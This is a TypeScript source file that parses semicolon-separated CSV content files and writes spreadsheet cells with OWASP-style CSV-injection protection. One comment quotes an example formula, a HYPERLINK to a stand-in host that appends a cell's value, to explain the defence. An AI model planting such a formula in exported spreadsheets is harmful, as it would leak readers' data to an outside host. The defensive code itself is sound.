/**
 * A small CSV reader and writer for the semicolon-separated files editors keep in
 * src/content (Norwegian Excel writes `;` because `,` is the decimal mark).
 */

/** One data row with the 1-based line it starts on in the file. */
export interface CsvRow {
  line: number;
  values: Record<string, string>;
}

export interface CsvTable {
  header: string[];
  rows: CsvRow[];
  /** Rows whose number of cells differs from the header. */
  malformed: { line: number; cells: number }[];
}

/**
 * Parses CSV text with a header line. Supports quoted cells ("a;b", "say ""hi""") and CRLF,
 * strips a UTF-8 BOM and skips blank lines. Cells are trimmed.
 */
export function parseCsv(text: string, separator = ';'): CsvTable {
  const records = splitRecords(text.replace(/^\uFEFF/, ''), separator);
  const first = records.shift();
  const header = first ? first.cells.map((c) => c.trim()) : [];
  const rows: CsvRow[] = [];
  const malformed: CsvTable['malformed'] = [];
  for (const { line, cells } of records) {
    if (cells.length === 1 && cells[0]!.trim() === '') continue;
    if (cells.length !== header.length) {
      malformed.push({ line, cells: cells.length });
      continue;
    }
    const values: Record<string, string> = {};
    header.forEach((name, i) => (values[name] = cells[i]!.trim()));
    rows.push({ line, values });
  }
  return { header, rows, malformed };
}

/**
 * The separator of a data file, read from its header line: `;`, as Norwegian Excel writes, or `,`
 * when the header has no `;` but has a `,` (Excel with an English list separator, or «CSV UTF-8»
 * on a Mac). Column names contain neither, so the header decides without guessing; in a
 * comma-separated file, decimal commas are quoted ("4,8"), as Excel writes them.
 */
export function detectSeparator(text: string): ';' | ',' {
  const header = /^[^\r\n]*/.exec(text)![0];
  return !header.includes(';') && header.includes(',') ? ',' : ';';
}

/** Every record of a CSV text as raw cells (not trimmed), with the line it starts on. */
export function splitRecords(text: string, separator: string) {
  const records: { line: number; cells: string[] }[] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  let line = 1;
  let recordLine = 1;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') {
        quoted = false;
      } else {
        if (ch === '\n') line++;
        cell += ch;
      }
    } else if (ch === '"' && cell.trim() === '') {
      quoted = true;
      cell = '';
    } else if (ch === separator) {
      cells.push(cell);
      cell = '';
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      cells.push(cell);
      records.push({ line: recordLine, cells });
      cells = [];
      cell = '';
      line++;
      recordLine = line;
    } else {
      cell += ch;
    }
  }
  if (cell !== '' || cells.length) {
    cells.push(cell);
    records.push({ line: recordLine, cells });
  }
  return records;
}

/*
 * Writing cells for files a spreadsheet opens (the /data/ CSVs).
 *
 * CSV injection (OWASP, "CSV Injection"): Excel, LibreOffice Calc and Google Sheets read a cell
 * whose first character is `=`, `+`, `-` or `@` as a formula, also after a leading tab or
 * carriage return, so an editor's title such as `=HYPERLINK("https://x.example/?"&A1;"Klikk")`
 * would run in a reader's spreadsheet (send data away, or start programs through DDE in old
 * Excel). Quoting the cell (RFC 4180) does not help: the spreadsheet unquotes it first. OWASP's
 * advice, followed here: prefix such a cell with a single quote `'`, which the spreadsheet reads
 * as "this is text", and wrap the cell in double quotes.
 *
 * Which cells are text and which are numbers comes from the value's type, never from the
 * string: a `number` is written as a number (it cannot hold a formula), and every `string` is
 * text and neutralised when it starts like a formula, even when it looks like a number ("-5" in
 * a text column becomes `"'-5"`). So a column's type decides, and a negative figure in a numeric
 * column stays a number.
 */

/**
 * First characters that start a formula: the OWASP list (= + - @ tab CR), the NUL the OWASP
 * ASVS adds, and the full-width forms of = + - @ that East Asian input methods type (Excel
 * accepts ＝ as the start of a formula in some locales), as a precaution.
 */
const FORMULA_START = /^[=+\-@\t\r\0\uFF1D\uFF0B\uFF0D\uFF20]/;

/**
 * Leading characters a spreadsheet may skip before it looks for a formula (a cell " =1" is a
 * formula in LibreOffice with "trim spaces", and a line break first hides it from a reader):
 * any whitespace, control or invisible formatting character.
 */
const LEADING_SKIPPED = /^[\s\p{Cc}\p{Cf}]+/u;

/** Whether a text cell would be read as a formula if written as it is. */
export function startsFormula(text: string): boolean {
  return FORMULA_START.test(text) || FORMULA_START.test(text.replace(LEADING_SKIPPED, ''));
}

/**
 * A text cell: prefixed with `'` and quoted when it starts like a formula (see above), quoted
 * when it contains the separator, a quote or a line break, otherwise as it is.
 */
export function csvTextCell(value: string, separator = ';'): string {
  if (startsFormula(value)) return `"'${value.replace(/"/g, '""')}"`;
  return /["\r\n]/.test(value) || value.includes(separator) ? `"${value.replace(/"/g, '""')}"` : value;
}

/**
 * A numeric cell as Norwegian Excel reads a number: decimal comma, the ASCII hyphen-minus for
 * negatives (never U+2212, which the nb-NO locale of Intl.NumberFormat writes and Excel reads as
 * text), no thousands separator, at most four decimals, no "-0". Not a finite number: an error,
 * since NaN or Infinity in a data file is a bug upstream.
 */
export function csvNumberCell(value: number): string {
  if (!Number.isFinite(value)) throw new RangeError(`not a finite number for a CSV cell: ${value}`);
  return plainNumber.format(value).replace('.', ',');
}

const plainNumber = new Intl.NumberFormat('en-US', {
  maximumFractionDigits: 4,
  useGrouping: false,
  signDisplay: 'negative',
});

/**
 * One cell of a file a spreadsheet opens: a number as a number (csvNumberCell), a string as
 * text (csvTextCell), null or undefined as an empty cell.
 */
export function csvCell(value: string | number | null | undefined, separator = ';'): string {
  if (value === null || value === undefined) return '';
  return typeof value === 'number' ? csvNumberCell(value) : csvTextCell(value, separator);
}
